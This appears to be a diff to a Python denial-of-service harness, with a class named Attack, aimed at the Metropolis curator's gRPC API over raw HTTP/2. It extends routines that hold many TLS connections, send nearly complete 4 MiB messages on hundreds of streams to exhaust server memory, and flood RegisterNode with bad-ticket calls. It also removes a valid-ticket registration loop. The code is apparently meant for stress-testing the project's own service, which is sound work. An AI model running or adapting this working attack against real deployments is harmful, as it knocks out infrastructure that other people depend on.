@@ -10,19 +10,17 @@ import collections
 import json
 import resource
 import socket
-import ssl
 import struct
 import sys
-import tempfile
 import time
-import pathlib
 import zlib
 
-from raw_http2 import (CONTINUATION, END_HEADERS, END_STREAM, FRAME, HEADERS, INITIAL_WINDOW_SIZE,
-                       DATA, RST_STREAM, RawHttp2, frame, header_block, message)
+from raw_http2 import (CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM,
+                       RawHttp2, frame, header_block, message)
 
 CURATOR = "/metropolis.node.core.curator.proto.api.Curator/"
 REGISTER = CURATOR + "RegisterNode"
+CA = "/metropolis.node.core.curator.proto.api.CuratorLocal/GetCACertificate"
 CANCEL = struct.pack(">I", 8)
 
 
@@ -78,8 +76,7 @@ class Attack:
     def tls_clients(self):
         """Each asks for the CA, as anybody may, and stays."""
         held = []
-        block = header_block("/metropolis.node.core.curator.proto.api.CuratorLocal"
-                             "/GetCACertificate")
+        block = header_block(CA)
         while self.goes_on():
             if len(held) >= self.number("count", 1000):
                 time.sleep(0.05)
@@ -103,16 +100,21 @@ class Attack:
     # Memory.
 
     def unfinished(self):
-        """On each of many streams all of a message but its last byte."""
+        """On each of many streams all of a message but its last byte; to methods that only a
+        leader serves, and that every curator does."""
         size = (4 << 20) - 64
+        blocks = [header_block(REGISTER), header_block(CA)]
         body = message(b"\x0a" + b"\x80\x80\x80\x01" + b"A" * (size - 6), length=size)
         for connection in self.connections():
             try:
-                todo = {connection.open(header_block(REGISTER)): 0
-                        for _ in range(self.number("streams", 300))}
-                while self.goes_on() and connection.read(0.01):
-                    for stream in [s for s in todo if s not in connection.answered]:
+                todo = {connection.open(blocks[i % 2]): 0
+                        for i in range(self.number("streams", 300))}
+                while self.goes_on() and todo and connection.read(0.01):
+                    for stream in list(todo):
                         at = todo[stream]
+                        if stream in connection.answered:
+                            del todo[stream]
+                            continue
                         sent = connection.data(stream, body[at:at + (1 << 20)])
                         todo[stream] += sent
                         self.did["MiB"] += sent / (1 << 20)
@@ -175,52 +177,24 @@ class Attack:
     # Work.
 
     def registrations(self):
-        """Calls of RegisterNode with a wrong ticket, as many under way as fit; with a
-        self-made key, or (certificate=) without one."""
-        body = message(b"\x0a\x22" + b"\x0a\x20" + b"x" * 32 + b"\x12\x20" + b"j" * 32)
+        """Calls of RegisterNode with a wrong ticket, as many under way as fit, of `bytes` each;
+        with a self-made key (certificate=), or without one."""
+        ticket = b"\x0a\x20" + b"x" * 32
+        body = message(field(1, ticket) + field(2, b"j" * 32) +
+                       field(15, b"p" * self.number("bytes", 0)))
         block, most = header_block(REGISTER), self.number("under_way", 900)
         for connection in self.connections():
             try:
                 while self.goes_on() and connection.read(0.001):
-                    under_way = len(connection.windows) - sum(connection.answered.values())
-                    frames = []
-                    while under_way + len(frames) < most and connection.window > len(body) \
-                            and len(frames) < 300:
-                        stream = connection.next_stream()
-                        frames.append(frame(HEADERS, END_HEADERS, stream, block) +
-                                      frame(DATA, END_STREAM, stream, body))
-                        connection.window -= len(body)
-                    if frames:
-                        connection.send(b"".join(frames))
-                        self.did["calls"] += len(frames)
+                    connection.forget_ended()
+                    calls = 0
+                    while len(connection.windows) < most and calls < 300 and \
+                            min(connection.window, connection.initial_window) > len(body):
+                        connection.data(connection.open(block), body, end=True)
+                        calls += 1
+                    self.did["calls"] += calls
             except OSError:
                 pass
-
-    def tickets(self):
-        """Nodes that are registered with the right ticket, each with labels, without end."""
-        ticket = bytes.fromhex(self.options["ticket"])
-        while self.goes_on():
-            with tempfile.TemporaryDirectory(prefix="curator-test-key-") as directory:
-                pair = new_ephemeral(pathlib.Path(directory))
-                try:
-                    self.did["answered" if self._register(ticket, pair) else "turned away"] += 1
-                except OSError:
-                    self.did["turned away"] += 1
-
-    def _register(self, ticket, pair):
-        labels = b"".join(field(1, field(1, f"{'a' * 50}{i}".encode()) + field(2, b"b" * 63))
-                          for i in range(64))
-        body = field(1, ticket) + field(2, pair.join_key) + field(4, labels)
-        connection = RawHttp2(self.address, pair.certificate, pair.key, timeout=5)
-        try:
-            stream = connection.open(header_block(REGISTER))
-            connection.read(0.01)
-            connection.data(stream, message(body), end=True)
-            while self.goes_on() and stream not in connection.answered and connection.read(0.1):
-                pass
-            return stream in connection.answered
-        finally:
-            connection.close()
 
     # Patience.
 
@@ -250,17 +224,6 @@ class Attack:
                 except OSError:
                     pass
         self.did["connections to the end"] = sum(not each.is_over for each in held)
-
-
-Pair = collections.namedtuple("Pair", "certificate key join_key")
-
-
-def new_ephemeral(directory):
-    from workload import EphemeralKey
-    made = EphemeralKey()
-    (directory / "cert").write_bytes(made.certificate)
-    (directory / "key").write_bytes(made.key)
-    return Pair(directory / "cert", directory / "key", made.public)
 
 
 def field(number, data):
